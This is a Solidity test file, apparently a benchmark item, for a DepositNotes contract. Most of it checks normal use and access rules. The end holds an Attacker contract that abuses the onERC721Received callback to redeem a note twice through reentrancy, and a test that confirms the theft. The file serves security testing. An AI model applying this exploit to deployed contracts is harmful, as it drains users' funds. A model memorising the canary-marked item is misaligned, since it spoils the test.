// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./DepositNotes.sol";

// assay-canary-e31710ab-3eef-4d03-b5d1-b9c271aa0586

interface Vm {
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Dollar is ERC20 {
    constructor() ERC20("Dollar", "USD") {
        _mint(msg.sender, 100_000e18);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant BOSS = address(0xB055);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant NOW = 1_750_000_000;

    Dollar private usd;
    DepositNotes private desk;
    Attacker private mallory;

    function setUp() public {
        vm.warp(NOW);
        usd = new Dollar();
        vm.prank(BOSS);
        desk = new DepositNotes(usd, 500);
        usd.transfer(ANA, 10_000e18);
        usd.approve(address(desk), 500e18);
        desk.fund(500e18);
        vm.startPrank(ANA);
        usd.approve(address(desk), type(uint256).max);
        desk.deposit(4_000e18);
        vm.stopPrank();
        mallory = new Attacker(desk, usd);
        usd.transfer(address(mallory), 1_000e18);
    }

    function test_Regular() public {
        vm.startPrank(ANA);
        uint256 b = desk.split(1, 1_000e18);
        uint256 c = desk.split(1, 500e18);
        desk.merge(c, b);
        (uint256 amount, uint256 since) = desk.notes(c);
        require(b == 2 && c == 3 && amount == 1_500e18 && since == NOW, "merged");
        (amount, ) = desk.notes(1);
        require(amount == 2_500e18 && desk.balanceOf(ANA) == 2, "split");
        uint256 d = desk.deposit(100e18);
        desk.transferFrom(ANA, BEN, c);
        desk.safeTransferFrom(ANA, BEN, d);
        desk.approve(BEN, 1);
        desk.setApprovalForAll(BOSS, true);
        vm.stopPrank();
        vm.prank(BEN);
        desk.safeTransferFrom(BEN, ANA, d, "");
        vm.warp(NOW + 73 days);
        require(desk.interestOf(c) == 15e18, "interest");
        vm.prank(BEN);
        desk.redeem(c);
        require(usd.balanceOf(BEN) == 1_515e18 && desk.reserve() == 485e18, "redeemed");
        vm.warp(NOW + 730 days);
        vm.prank(BOSS);
        desk.unfund(385e18);
        vm.startPrank(ANA);
        desk.redeem(1);
        require(usd.balanceOf(ANA) == 5_900e18 + 2_600e18 && desk.reserve() == 0, "the rest of it");
        desk.redeem(d);
        require(usd.balanceOf(address(desk)) == 0, "all");
        vm.stopPrank();
        vm.prank(BOSS);
        desk.transferOwnership(ANA);
        vm.prank(ANA);
        desk.renounceOwnership();
    }

    function test_RefusesOthers() public {
        vm.startPrank(BEN);
        vm.expectRevert(abi.encodeWithSelector(DepositNotes.NotYours.selector, 1));
        desk.split(1, 1);
        vm.expectRevert(abi.encodeWithSelector(DepositNotes.NotYours.selector, 1));
        desk.redeem(1);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BEN));
        desk.unfund(1);
        vm.stopPrank();
        vm.startPrank(ANA);
        uint256 b = desk.split(1, 10);
        desk.transferFrom(ANA, BEN, b);
        vm.expectRevert(abi.encodeWithSelector(DepositNotes.NotYours.selector, b));
        desk.merge(1, b);
        vm.expectRevert(abi.encodeWithSelector(DepositNotes.NotYours.selector, b));
        desk.merge(b, 1);
        vm.stopPrank();
    }

    function test_RefusesAmounts() public {
        vm.expectRevert("rate");
        new DepositNotes(usd, 2_001);
        vm.startPrank(ANA);
        vm.expectRevert("nothing");
        desk.deposit(0);
        vm.expectRevert("part");
        desk.split(1, 0);
        vm.expectRevert("part");
        desk.split(1, 4_000e18);
        vm.expectRevert("no match");
        desk.merge(1, 1);
        vm.warp(NOW + 1);
        desk.deposit(1);
        vm.expectRevert("no match");
        desk.merge(1, 2);
        vm.stopPrank();
        vm.prank(BOSS);
        vm.expectRevert();
        desk.unfund(500e18 + 1);
    }

    function test_RefusesTheDeaf() public {
        usd.approve(address(desk), 1);
        vm.expectRevert();
        desk.deposit(1);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(mallory)) >= 1_900e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function dollar() public view returns (address) {
        return address(usd);
    }
}

contract Attacker {
    DepositNotes private desk;
    uint256 private first;

    constructor(DepositNotes d, Dollar usd) {
        desk = d;
        usd.approve(address(d), type(uint256).max);
    }

    function run() external {
        first = desk.deposit(1_000e18);
        uint256 second = desk.split(first, 1_000e18 - 1);
        desk.redeem(second);
    }

    function onERC721Received(address, address, uint256, bytes calldata) external returns (bytes4) {
        if (first != 0) desk.redeem(first);
        return this.onERC721Received.selector;
    }
}
